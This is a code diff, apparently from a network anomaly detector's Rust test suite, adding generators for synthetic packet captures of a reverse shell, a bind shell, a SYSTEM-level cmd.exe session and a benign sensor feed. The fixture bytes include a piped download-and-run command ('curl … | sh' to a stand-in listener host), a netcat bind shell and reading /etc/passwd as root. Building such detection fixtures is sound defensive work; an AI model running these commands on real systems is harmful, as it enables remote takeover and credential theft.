@@ -485,3 +485,186 @@ pub fn mixed() -> Vec<Record> {
     }
     t.records
 }
+
+/// A reverse shell: the ESP32-hosting gateway 192.0.2.70 connects out to a listener on
+/// 203.0.113.20:3232 (`nc -lvnp 3232`) and runs `bash -i`; the operator downloads and runs a
+/// script → `interactive_session`, critical (download and execute).
+pub const REVERSE_VICTIM: &str = "192.0.2.70";
+pub const REVERSE_LISTENER: &str = "203.0.113.20";
+/// A bind shell: `nc -lp 3232 -e /bin/sh` on 192.0.2.71 as root, used from 198.51.100.30
+/// (no prompt: sh without a terminal) → `interactive_session`, critical (`uid=0(root)`).
+pub const BIND_HOST: &str = "192.0.2.71";
+pub const BIND_CLIENT: &str = "198.51.100.30";
+/// A Windows `cmd.exe` bound to 192.0.2.72:3232, used from 198.51.100.31 → `interactive_session`,
+/// high.
+pub const CMD_HOST: &str = "192.0.2.72";
+pub const CMD_CLIENT: &str = "198.51.100.31";
+/// A sensor 192.0.2.73 sending `temp=… hum=…` lines to a collector on 192.0.2.5:3232 at
+/// irregular times → `unexpected_tcp_service`, text: no shell.
+pub const FEED_SENSOR: &str = "192.0.2.73";
+pub const FEED_COLLECTOR: &str = "192.0.2.5";
+
+/// One typed command and what comes back, after `pause_ms` of typing.
+fn dialogue(
+    t: &mut Timeline,
+    c: &mut TcpConv,
+    cmd_from_client: bool,
+    turns: &[(i64, &[u8], &[u8])],
+) {
+    for (pause_ms, cmd, out) in turns {
+        t.advance_ms(*pause_ms);
+        if cmd_from_client {
+            c.client_says(t, cmd);
+            t.advance_ms(30);
+            c.server_says(t, out);
+        } else {
+            c.server_says(t, cmd);
+            t.advance_ms(30);
+            c.client_says(t, out);
+        }
+    }
+}
+
+fn shell_timeline() -> Timeline {
+    Timeline::new(Link::Ethernet {
+        src: LAPTOP_MAC,
+        dst: ESPRESSIF_MAC,
+    })
+}
+
+/// `testdata/anomaly/reverse_shell.pcap`: see [`REVERSE_VICTIM`].
+pub fn reverse_shell() -> Vec<Record> {
+    let mut t = shell_timeline();
+    let mut rng = Rng::new(0x3232_5e11);
+    let mut c = TcpConv::new(
+        (ip(REVERSE_VICTIM), 41822),
+        (ip(REVERSE_LISTENER), 3232),
+        &mut rng,
+    );
+    c.handshake(&mut t);
+    t.advance_ms(200);
+    c.client_says(&mut t, b"bash: no job control in this shell\nbash-5.2$ ");
+    dialogue(
+        &mut t,
+        &mut c,
+        false,
+        &[
+            (
+                3100,
+                b"id\n",
+                b"uid=1000(gw) gid=1000(gw) groups=1000(gw),20(dialout)\nbash-5.2$ ",
+            ),
+            (
+                2400,
+                b"uname -a\n",
+                b"Linux gw-2 6.1.21-v8+ #1642 SMP PREEMPT aarch64 GNU/Linux\nbash-5.2$ ",
+            ),
+            (
+                5200,
+                b"curl -s http://203.0.113.20/k.sh | sh\n",
+                b"installed\nbash-5.2$ ",
+            ),
+        ],
+    );
+    t.advance_ms(1800);
+    c.close(&mut t);
+    t.records
+}
+
+/// `testdata/anomaly/bind_shell.pcap`: see [`BIND_HOST`].
+pub fn bind_shell() -> Vec<Record> {
+    let mut t = shell_timeline();
+    let mut rng = Rng::new(0x3232_b1d0);
+    let mut c = TcpConv::new((ip(BIND_CLIENT), 52311), (ip(BIND_HOST), 3232), &mut rng);
+    c.handshake(&mut t);
+    dialogue(
+        &mut t,
+        &mut c,
+        true,
+        &[
+            (1900, b"whoami\n", b"root\n"),
+            (
+                2700,
+                b"id\n",
+                b"uid=0(root) gid=0(root) groups=0(root),1(bin)\n",
+            ),
+            (
+                3300,
+                b"cat /etc/passwd\n",
+                b"root:x:0:0:root:/root:/bin/ash\ndaemon:x:1:1:daemon:/usr/sbin:/bin/false\n",
+            ),
+        ],
+    );
+    t.advance_ms(2200);
+    c.close(&mut t);
+    t.records
+}
+
+/// `testdata/anomaly/cmd_exe.pcap`: a replayed `cmd.exe` transcript, see [`CMD_HOST`].
+pub fn cmd_exe() -> Vec<Record> {
+    let mut t = shell_timeline();
+    let mut rng = Rng::new(0x3232_c3d0);
+    let mut c = TcpConv::new((ip(CMD_CLIENT), 49733), (ip(CMD_HOST), 3232), &mut rng);
+    c.handshake(&mut t);
+    t.advance_ms(50);
+    c.server_says(
+        &mut t,
+        b"Microsoft Windows [Version 10.0.19045.4046]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\nC:\\Windows\\system32>",
+    );
+    dialogue(
+        &mut t,
+        &mut c,
+        true,
+        &[
+            (2600, b"whoami\r\n", b"whoami\r\nnt authority\\system\r\n\r\nC:\\Windows\\system32>"),
+            (
+                4100,
+                b"ipconfig\r\n",
+                b"ipconfig\r\n\r\nWindows IP Configuration\r\n\r\n   IPv4 Address. . . . . . . . . . . : 192.0.2.72\r\n\r\nC:\\Windows\\system32>",
+            ),
+            (3000, b"exit\r\n", b"exit\r\n"),
+        ],
+    );
+    c.close(&mut t);
+    t.records
+}
+
+/// `testdata/anomaly/sensor_feed.pcap`: see [`FEED_SENSOR`].
+pub fn sensor_feed() -> Vec<Record> {
+    let mut t = shell_timeline();
+    let mut rng = Rng::new(0x3232_fee0);
+    let mut c = TcpConv::new(
+        (ip(FEED_SENSOR), 50514),
+        (ip(FEED_COLLECTOR), 3232),
+        &mut rng,
+    );
+    c.handshake(&mut t);
+    c.server_says(&mut t, b"collector 1.4 ready\n");
+    // Sent when a value changes: irregular, so no beacon either.
+    for (pause_ms, line) in [
+        (1200, "temp=21.5 hum=40\n"),
+        (4100, "temp=21.6 hum=40\n"),
+        (2300, "temp=21.6 hum=41\n"),
+        (7700, "temp=21.7 hum=41\n"),
+        (3100, "temp=21.5 hum=42\n"),
+        (9400, "temp=21.4 hum=42\n"),
+    ] {
+        t.advance_ms(pause_ms);
+        c.client_says(&mut t, line.as_bytes());
+    }
+    c.close(&mut t);
+    t.records
+}
+
+/// Builds one capture's records.
+pub type Build = fn() -> Vec<Record>;
+
+/// The shell captures and the benign text feed, by file name (under `testdata/anomaly/`).
+pub fn shells() -> Vec<(&'static str, Build)> {
+    vec![
+        ("reverse_shell", reverse_shell),
+        ("bind_shell", bind_shell),
+        ("cmd_exe", cmd_exe),
+        ("sensor_feed", sensor_feed),
+    ]
+}
